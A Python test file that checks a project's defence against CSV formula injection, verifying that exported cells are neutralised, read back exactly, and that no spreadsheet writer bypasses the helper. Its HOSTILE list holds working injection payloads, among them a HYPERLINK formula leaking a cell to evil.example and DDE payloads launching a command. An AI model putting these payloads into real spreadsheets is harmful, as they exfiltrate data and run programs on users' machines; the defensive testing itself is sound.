"""CSV formula injection (issue 14): every text cell the project writes that a spreadsheet would run as a
formula is neutralised (OWASP), exports still read back exactly, and no CSV writer bypasses the helper."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest

from sandbox_app.privacy.spreadsheet import FORMULA_STARTS, neutralise, unneutralise
from sandbox_app.replay.entries import Entry
from sandbox_app.replay.export import read_csv, write_csv

REPO = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://evil.example/"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_neutralised_cell_never_starts_a_formula_and_round_trips(text: str) -> None:
    cell = neutralise(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert unneutralise(cell) == text


def test_plain_text_and_numbers_are_unchanged() -> None:
    assert neutralise("富润家园 1号楼") == "富润家园 1号楼"
    assert neutralise(-122.5) == -122.5
    assert neutralise(None) is None


def test_exported_csv_cells_are_neutralised_and_read_back(tmp_path: Path) -> None:
    entries = [Entry(1_700_000_000_000 + i, t, t, -0.5, 40.0, t) for i, t in enumerate(HOSTILE)]
    out = tmp_path / "case.csv"
    write_csv(entries, out, "Asia/Shanghai")
    with out.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))[1:]
    for row in rows:
        _ts, _time, kind, source, lon, _lat, text = row
        assert not any(c.startswith(FORMULA_STARTS) for c in (kind, source, text))
        assert lon == "-0.5"  # numbers the project made stay numbers
    assert read_csv(out) == entries


_WRITERS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\.to_csv\(|\.to_excel\(|openpyxl|xlsxwriter")


def test_every_csv_or_xlsx_writer_goes_through_the_helper() -> None:
    allowed = {REPO / "sandbox_app" / "privacy" / "spreadsheet.py"}
    offenders = [
        str(path.relative_to(REPO))
        for top in ("sandbox_app", "layers", "widgets")
        for path in (REPO / top).rglob("*.py")
        if path not in allowed and _WRITERS.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
